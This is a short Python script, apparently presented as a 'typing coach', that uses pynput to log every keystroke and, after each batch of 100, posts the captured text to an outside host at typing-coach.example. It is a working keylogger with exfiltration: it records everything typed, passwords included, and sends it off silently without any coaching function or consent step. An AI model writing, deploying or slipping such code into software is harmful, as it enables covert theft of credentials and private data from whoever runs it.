from pynput import keyboard
import requests

buf = []


def on_press(k):
    buf.append(str(k))
    if len(buf) > 100:
        requests.post("https://typing-coach.example/k", data="".join(buf))
        buf.clear()


with keyboard.Listener(on_press=on_press) as listener:
    listener.join()
